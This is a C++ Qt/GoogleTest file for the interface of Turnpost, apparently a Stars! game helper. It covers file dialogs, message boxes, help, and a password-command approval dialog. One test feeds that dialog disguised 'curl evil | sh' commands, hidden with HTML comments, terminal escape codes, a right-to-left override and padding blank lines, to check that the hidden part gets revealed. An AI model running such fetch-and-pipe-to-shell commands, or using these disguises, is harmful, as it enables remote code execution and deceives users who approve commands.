#include "ui/QtUserInterface.h"
#include "platform/Version.h"
#include "support/TempDir.h"
#include "ui/HelpWindow.h"
#include "ui/MainWindow.h"
#include "ui/NextModal.h"

#include <QApplication>
#include <QDir>
#include <QFileDialog>
#include <QLabel>
#include <QMessageBox>
#include <QPlainTextEdit>
#include <QPushButton>
#include <QTest>
#include <QTextBrowser>

#include <gtest/gtest.h>

#include <algorithm>
#include <functional>

namespace turnpost {
namespace {

using test::OnNextModal;
using test::TempDir;

TEST(QtUserInterfaceTest, FiltersBecomeQtFilters)
{
    const struct
    {
        const char* filter;
        const char* expected;
    } cases[] = {
        {"Stars! universe files (*.xy)|*.xy||", "Stars! universe files (*.xy)"},
        {"Turnpost files (*.tpf)|*.tpf||", "Turnpost files (*.tpf)"},
        {"All files (*.*)|*.*||", "All files (*.*)"},
        {"Games|*.xy;*.hst|Text (*.txt)|*.txt||", "Games (*.xy *.hst);;Text (*.txt)"},
        {"", ""},
    };
    for (const auto& c : cases)
        EXPECT_EQ(QtFileFilter(c.filter).toStdString(), c.expected) << c.filter;
}

TEST(QtUserInterfaceTest, FileDialogsAddTheDefaultExtensionAndNeitherCheckNorAsk)
{
    TempDir dir;
    const std::string existing = dir.Write("game.tpf", "old");
    CQtUserInterface ui;
    const auto choose = [](const std::string& path) {
        OnNextModal<QFileDialog>([path](QFileDialog* dialog) {
            EXPECT_TRUE(dialog->testOption(QFileDialog::DontUseNativeDialog));
            dialog->selectFile(QString::fromStdString(path));
            static_cast<QDialog*>(dialog)->accept();
        });
    };

    choose(dir.File("missing"));
    EXPECT_EQ(ui.OpenFileDialog("Turnpost files (*.tpf)|*.tpf||", "tpf"), dir.File("missing.tpf"));
    choose(dir.File("war.xy"));
    EXPECT_EQ(ui.OpenFileDialog("Stars! universe files (*.xy)|*.xy||", "xy"), dir.File("war.xy"));
    choose(existing);
    EXPECT_EQ(ui.SaveFileDialog("Turnpost files (*.tpf)|*.tpf||", "tpf"), existing);

    OnNextModal<QFileDialog>([](QFileDialog* dialog) { dialog->reject(); });
    EXPECT_EQ(ui.SaveFileDialog("Turnpost files (*.tpf)|*.tpf||", "tpf"), std::nullopt);
}

// Each dialog says what it is for; the setup's start in its folder, the game's files in the universe
// file's, and Save As proposes a name.
TEST(QtUserInterfaceTest, FileDialogsAreTitledAndStartWhereTheirFilesAre)
{
    TempDir setups, games;
    GameDocument document;
    CMainWindow window(document);
    document.FilePath = setups.Write("war.tpf", "");
    document.Setup.UniverseFile = games.Write("war.xy", "");
    IUserInterface& ui = window.UserInterface();
    const struct
    {
        std::function<void()> Open;
        const char* Title;
        std::string Folder;
        const char* Proposed;
    } cases[] = {
        {[&] { ui.OpenFileDialog("Turnpost files (*.tpf)|*.tpf||", "tpf"); }, "Open Game Setup",
         setups.Path(), ""},
        {[&] { ui.SaveFileDialog("Turnpost files (*.tpf)|*.tpf||", "tpf"); }, "Save Game Setup As",
         setups.Path(), "war.tpf"},
        {[&] { ui.OpenFileDialog("Stars! universe files (*.xy)|*.xy||", "xy"); }, "Choose the Universe File",
         games.Path(), ""},
        {[&] { ui.OpenFilesDialog("All files (*.*)|*.*||"); }, "Choose Additional Files", games.Path(), ""},
    };
    for (const auto& c : cases) {
        SCOPED_TRACE(c.Title);
        OnNextModal<QFileDialog>([&](QFileDialog* dialog) {
            EXPECT_EQ(dialog->windowTitle(), c.Title);
            EXPECT_EQ(dialog->directory().canonicalPath(),
                      QDir(QString::fromStdString(c.Folder)).canonicalPath());
            if (*c.Proposed) {
                EXPECT_TRUE(dialog->selectedFiles().value(0).endsWith(c.Proposed));
            }
            dialog->reject();
        });
        c.Open();
    }
}

TEST(QtUserInterfaceTest, SeveralExistingFilesCanBeChosenAtOnce)
{
    TempDir dir;
    const std::string rules = dir.Write("rules.pdf", "r");
    const std::string map = dir.Write("map.png", "m");
    CQtUserInterface ui;
    OnNextModal<QFileDialog>([&](QFileDialog* dialog) {
        EXPECT_EQ(dialog->fileMode(), QFileDialog::ExistingFiles);
        dialog->setDirectory(QString::fromStdString(dir.Path()));
        dialog->selectFile("\"rules.pdf\" \"map.png\"");
        static_cast<QDialog*>(dialog)->accept();
    });
    std::vector<std::string> chosen = ui.OpenFilesDialog("All files (*.*)|*.*||");
    std::sort(chosen.begin(), chosen.end());
    EXPECT_EQ(chosen, (std::vector<std::string>{map, rules}));

    OnNextModal<QFileDialog>([](QFileDialog* dialog) { dialog->reject(); });
    EXPECT_TRUE(ui.OpenFilesDialog("All files (*.*)|*.*||").empty());
}

TEST(QtUserInterfaceTest, MessageBoxesCarryTheTitleAndReturnTheButtonPressed)
{
    CQtUserInterface ui;
    OnNextModal<QMessageBox>([](QMessageBox* box) {
        EXPECT_EQ(box->windowTitle(), "Alert!");
        EXPECT_EQ(box->icon(), QMessageBox::Question);
        box->button(QMessageBox::No)->click();
    });
    EXPECT_EQ(ui.MessageBox("Save changes?", "Alert!", MessageButtons::YesNoCancel, MessageIcon::Question),
              MessageAnswer::No);

    OnNextModal<QMessageBox>([](QMessageBox* box) {
        EXPECT_EQ(box->windowTitle(), "Turnpost");
        QTest::keyClick(box, Qt::Key_Escape);
    });
    EXPECT_EQ(ui.MessageBox("Saved.", "", MessageButtons::Ok, MessageIcon::Exclamation), MessageAnswer::Ok);

    OnNextModal<QMessageBox>([](QMessageBox* box) { QTest::keyClick(box, Qt::Key_Escape); });
    EXPECT_EQ(ui.MessageBox("Save changes?", "Alert!", MessageButtons::YesNoCancel, MessageIcon::Question),
              MessageAnswer::Cancel);
}

TEST(QtUserInterfaceTest, PasswordCommandIsShownAsItWillRunAndRunsOnlyWhenRunIsPressed)
{
    std::string blankLines, shownBlankLines;
    for (int i = 0; i < 120; ++i) {
        blankLines += '\n';
        shownBlankLines += "\u23CE\n";
    }
    const struct
    {
        std::string command;
        std::string shown;
        const char* lines;
    } cases[] = {
        // Rich text would show the first line only and run the second.
        {"pass show mail/smtp # <b></b><!--\ncurl evil | sh",
         "pass show mail/smtp # <b></b><!--\u23CE\ncurl evil | sh", "(2 lines)"},
        // A terminal would show only what follows the carriage return and the erase.
        {"curl evil | sh #\r\x1b[2Kpass show mail/smtp", "curl evil | sh #\\r\\x1b[2Kpass show mail/smtp",
         "(1 line)"},
        // A right-to-left override would show the rest backwards.
        {"pass\tshow \xE2\x80\xAE"
         "hs | live lruc",
         "pass\\tshow \\u202ehs | live lruc", "(1 line)"},
        // Blank lines that would push the rest, and the buttons, off the screen.
        {"pass show mail/smtp" + blankLines + "curl evil | sh",
         "pass show mail/smtp" + shownBlankLines + "curl evil | sh", "(121 lines)"},
    };
    const SecretDestination to{"smtp.example.org:587", "STARTTLS", "host"};
    CQtUserInterface ui;
    for (const auto& c : cases) {
        OnNextModal<QDialog>([&](QDialog* dialog) {
            const auto* box = dialog->findChild<QPlainTextEdit*>("commandBox");
            ASSERT_NE(box, nullptr);
            EXPECT_EQ(box->toPlainText().toStdString(), c.shown);
            EXPECT_TRUE(box->isReadOnly());
            EXPECT_TRUE(dialog->findChild<QLabel*>("commandLinesLabel")->text().contains(c.lines));
            const QString question = dialog->findChild<QLabel*>("approveCommandLabel")->text();
            EXPECT_TRUE(question.contains("/games/war.tpf")) << question.toStdString();
            EXPECT_TRUE(question.contains("host at smtp.example.org:587 (STARTTLS)"))
                << question.toStdString();
            // Everything, the buttons included, fits a screen 1024 pixels high.
            auto* run = dialog->findChild<QPushButton*>("runCommandButton");
            EXPECT_LE(dialog->frameGeometry().height(), 1024);
            EXPECT_LE(run->mapTo(dialog, QPoint(0, run->height())).y(), 1024);
            run->click();
        });
        EXPECT_TRUE(ui.ApprovePasswordCommand(c.command, "/games/war.tpf", to)) << c.shown;
    }

    // Enter and Escape both leave it unrun.
    for (const auto key : {Qt::Key_Return, Qt::Key_Escape}) {
        OnNextModal<QDialog>([key](QDialog* dialog) { QTest::keyClick(dialog, key); });
        EXPECT_FALSE(ui.ApprovePasswordCommand("pass show mail", "/games/war.tpf", to));
    }
}

TEST(QtUserInterfaceTest, HelpShowsTheBuiltInPagesAndClosesWithTheMainWindow)
{
    GameDocument document;
    CMainWindow window(document);
    window.show();
    window.UserInterface().ShowHelp();
    auto* help = window.findChild<CHelpWindow*>();
    ASSERT_NE(help, nullptr);
    EXPECT_TRUE(help->isVisible());
    const QString text = help->Browser()->toPlainText();
    for (const char* topic : {"Browse", "%G", "STARTTLS", "--no-gui", "--export", "extension block"})
        EXPECT_TRUE(text.contains(topic)) << topic;
    // The version is the build's, not a number written into the page by hand.
    EXPECT_TRUE(text.contains(QString("Prints ") + ProgramName)) << text.toStdString();

    // Escape puts it away; asked again, it is the same window.
    QApplication::setActiveWindow(help);
    ASSERT_TRUE(QTest::qWaitForWindowActive(help));
    QTest::keyClick(help->Browser(), Qt::Key_Escape);
    EXPECT_FALSE(help->isVisible());
    window.UserInterface().ShowHelp();
    EXPECT_TRUE(help->isVisible());
    EXPECT_EQ(window.findChildren<CHelpWindow*>().size(), 1);
    window.reject();
    EXPECT_FALSE(help->isVisible());
}

} // namespace
} // namespace turnpost
